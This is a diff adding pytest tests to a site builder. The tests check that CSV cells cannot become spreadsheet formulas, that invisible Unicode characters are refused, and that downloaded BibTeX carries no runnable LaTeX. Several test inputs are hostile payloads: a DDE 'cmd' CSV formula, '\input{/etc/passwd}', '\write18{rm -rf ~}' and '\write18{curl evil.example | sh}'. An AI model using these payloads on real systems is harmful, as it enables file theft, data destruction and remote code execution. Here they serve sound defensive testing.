@@ -11,12 +11,15 @@ import csv
 import io
 import json
 import random
+import re
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from pypdf import PdfReader
 
 from builder.build import page_front_matter
+from builder.latex import ALLOWED
 from builder.problems import MAX_PER_FILE, format_problems
 from builder.render.html import Page
 from builder.site import build_site
@@ -200,11 +203,23 @@ def test_ids_that_could_make_paths_are_refused(mini: Path, bad_id: str) -> None:
     assert any(p.path == "id" and "is not a slug" in p.message for p in problems)
 
 
-def test_formula_cell_is_prefixed() -> None:
+@pytest.mark.parametrize(
+    ("value", "pieces"),
+    [
+        ('=HYPERLINK("x")', ['\'=HYPERLINK("x")']),
+        ("plain text", ["plain text"]),
+        ("Costs rose;=4+7;@SUM(1+17)", ["Costs rose", "'=4+7", "'@SUM(1+17)"]),  # Excel in much of Europe splits on ;
+        ("a, +1, -2", ["a", " '+1", " '-2"]),
+        ("\t=cmd|' /C calc'!A0;\r\n-2", ["'=cmd|' /C calc'!A0", " '-2"]),  # tabs and line ends are folded first
+    ],
+)
+def test_no_piece_of_a_csv_cell_is_a_formula(value: str, pieces: list[str]) -> None:
     from builder.render.downloads import cell
 
-    (found,) = next(csv.reader([cell('=HYPERLINK("x")')]))
-    assert found == '\'=HYPERLINK("x")' and cell("plain") == "plain"
+    written = cell(value)
+    assert written.startswith('"') and written.endswith('"')  # every text cell is quoted
+    (found,) = next(csv.reader([written]))
+    assert re.split(r"[;,\t]", found) == pieces
 
 
 def test_verification_is_bounded_whatever_the_stored_text_and_the_file_hold(mini: Path) -> None:
@@ -228,3 +243,133 @@ def test_verification_is_bounded_whatever_the_stored_text_and_the_file_hold(mini
     assert len(problems) == MAX_PER_FILE + 1
     assert problems[-1].message == f"{306 - MAX_PER_FILE} more problems in this file are not listed"
     assert len(format_problems(problems)) < 20_000
+
+
+# ---- Issue 25: what a pull request could carry in round three ----------------------------
+
+# Unicode format characters (category Cf), each named as the check names it.
+FORMAT_CHARACTERS = {
+    "\u200b": "ZERO WIDTH SPACE (U+200B)",
+    "\u200d": "ZERO WIDTH JOINER (U+200D)",
+    "\u00ad": "SOFT HYPHEN (U+00AD)",
+    "\u2060": "WORD JOINER (U+2060)",
+    "\ufeff": "ZERO WIDTH NO-BREAK SPACE (U+FEFF)",  # a byte-order mark, inside the text
+    "\u200e": "LEFT-TO-RIGHT MARK (U+200E)",
+    "\u061c": "ARABIC LETTER MARK (U+061C)",
+    "\U000e0041": "TAG LATIN CAPITAL LETTER A (U+E0041)",
+}
+BRIEFING = (
+    "question: What helps?\nscope:\n  description: England.\n"
+    "methods:\n  systematic_review: false\n  statement: We read what we found.\n"
+)
+# Each kind of contributed file, the text to put the character in, and that text's line.
+CONTRIBUTED = {
+    "evidence/alpha-study.yaml": ("setting: Two sites.", 5),
+    "evidence/themes.yaml": ("question: Who leads?", 4),
+    "evidence/briefing.yaml": ("question: What helps?", 1),
+    "references.bib": ("title  = {A work the study cites}", 21),
+}
+
+
+@pytest.mark.parametrize("file", CONTRIBUTED)
+@pytest.mark.parametrize("char", FORMAT_CHARACTERS, ids=[f"U+{ord(c):04X}" for c in FORMAT_CHARACTERS])
+def test_format_characters_are_refused_in_every_contributed_file(mini: Path, file: str, char: str) -> None:
+    (mini / "evidence" / "briefing.yaml").write_text(BRIEFING)
+    text, line = CONTRIBUTED[file]
+    path = mini / file
+    written = path.read_text(encoding="utf-8")
+    assert text in written
+    path.write_text(written.replace(text, text[:-4] + char + text[-4:]), encoding="utf-8")
+    (problem,) = [p for p in check_root(mini).problems if p.fails]
+    assert problem.file == file and problem.line == line
+    assert problem.message == f"the invisible character {FORMAT_CHARACTERS[char]} is not allowed"
+    assert char not in problem.text() and problem.hint.startswith("delete it")
+
+
+def test_joiners_may_stand_between_letters_of_scripts_that_need_them(mini: Path) -> None:
+    path = mini / "evidence" / "alpha-study.yaml"
+    persian = "Two sites; interviews in Persian (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)."
+    path.write_text(path.read_text(encoding="utf-8").replace("setting: Two sites.", f"setting: {persian}"))
+    result = check_root(mini)
+    assert result.ok, [p.text() for p in result.problems]
+    assert result.corpus.by_id["alpha-study"].source.setting == persian
+
+
+def _cited(mini: Path, statement: str, findings: int) -> None:
+    """alpha-study with `findings` more findings, on alternate themes, each saying `statement`."""
+    path = mini / "evidence" / "alpha-study.yaml"
+    themes = ("leadership", "practice-managers")
+    more = "".join(
+        f"  - id: more-{i}\n    theme: {themes[i % 2]}\n    statement: {json.dumps(statement)}\n"
+        for i in range(findings)
+    )
+    path.write_text(path.read_text(encoding="utf-8").replace("limitations:\n", more + "limitations:\n"))
+
+
+def test_a_work_cited_again_and_again_in_one_place_is_shown_once(mini: Path) -> None:
+    # 80 such findings, 1,240 citations each ([@a; @a; ...]), took the PDF 124 s and 2 GB.
+    _cited(mini, "See [@cited2019" + "; @cited2019" * 400 + "].", 80)
+    site = build_site(mini / "mkdocs.yml")
+    page = (site / "sources" / "alpha-study.html").read_text(encoding="utf-8")
+    assert page.count(">Delta et al., 2019</a>)") == 80  # one link for each finding,
+    assert page.count(">Delta et al., 2019</a>") < 100  # not 401
+    assert len(PdfReader(site / "downloads" / "briefing.pdf").pages) < 20
+
+
+def test_the_pdf_is_bounded_however_long_the_findings(mini: Path) -> None:
+    _cited(mini, " ".join(["commissioning"] * 350) + " [@cited2019].", 80)  # 80 findings of 4,900 characters
+    site = build_site(mini / "mkdocs.yml")
+    reader = PdfReader(site / "downloads" / "briefing.pdf")
+    assert len(reader.pages) < 40  # all 80 would be over a hundred pages
+    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
+    assert "more findings, of equal or lower strength, are on the theme's page" in text
+
+
+def test_every_stage_of_the_check_is_capped_per_file(mini: Path) -> None:
+    # 40 figures missing from the stored text (found by the verification) and 40 unknown citations
+    # (found when the files are linked): one file's problems, listed once, 20 at most.
+    path = mini / "evidence" / "alpha-study.yaml"
+    wrong = "".join(f"  - id: wrong-{i}\n    theme: leadership\n    statement: It was {1000 + i}.\n" for i in range(40))
+    text = path.read_text(encoding="utf-8").replace("limitations:\n", wrong + "limitations:\n")
+    path.write_text(text.replace("references:\n  - cited2019\n", "references:\n" + "  - nowhere2020\n" * 40))
+    problems = [p for p in check_root(mini).problems if p.file == "evidence/alpha-study.yaml"]
+    assert len(problems) == MAX_PER_FILE + 1
+    assert problems[-1].message == "60 more problems in this file are not listed" and problems[-1].fails
+
+
+def test_downloaded_bibtex_carries_no_latex_a_reader_would_run(mini: Path) -> None:
+    bib = mini / "references.bib"
+    bib.write_text(
+        '@comment{\\input{/etc/passwd}}\n% \\immediate\\write18{rm -rf ~}\n@string{jt = "Journal of {\\\'E}tudes"}\n'
+        + bib.read_text().replace("journal = {Journal of Tests},", "journal = jt,\n  abstract = {Anything},")
+    )
+    site = build_site(mini / "mkdocs.yml")
+    written = (site / "downloads" / "references.bib").read_text(encoding="utf-8")
+    page = _parse(site / "sources" / "alpha-study.html")
+    cite_this = next(t for t in page.text if t.startswith("@article{alpha2020"))
+    for bibtex in (written, cite_this):
+        assert "@comment" not in bibtex and "@string" not in bibtex and "@preamble" not in bibtex
+        assert "abstract" not in bibtex and "input" not in bibtex and "write18" not in bibtex
+        assert "journal = {Journal of {\\'E}tudes}" in bibtex  # the @string's text, written out
+        assert set(re.findall(r"\\([A-Za-z]+|.)", bibtex)) <= ALLOWED
+    assert written.count("@") == 3  # the three entries
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("See \\input{/etc/passwd}", "\\input"),
+        ("\\immediate\\write18{curl evil.example | sh}", "\\immediate"),
+        ("\\emph{a \\csname input\\endcsname}", "\\csname"),
+        ("50% \\openout1=x", "\\openout"),  # a % is text in BibTeX: what follows it is checked too
+        ("\\begin{verbatim}x\\end{verbatim}", "\\begin{verbatim}"),
+        ("Tom ^^5cinput x", "^^"),  # TeX reads ^^5c as a backslash
+        ("a } @preamble{ x", "}"),  # a brace that would end the value early
+    ],
+)
+def test_latex_a_reader_would_run_is_refused_at_check_time(mini: Path, value: str, written: str) -> None:
+    bib = mini / "references.bib"
+    bib.write_text(bib.read_text().replace("title  = {A work the study cites},", f'note = "{value}",'))
+    (problem,) = [p for p in check_root(mini).problems if p.fails]
+    assert problem.file == "references.bib" and problem.path == "cited2019.note"
+    assert problem.excerpt[problem.col - 1 :].startswith(written)
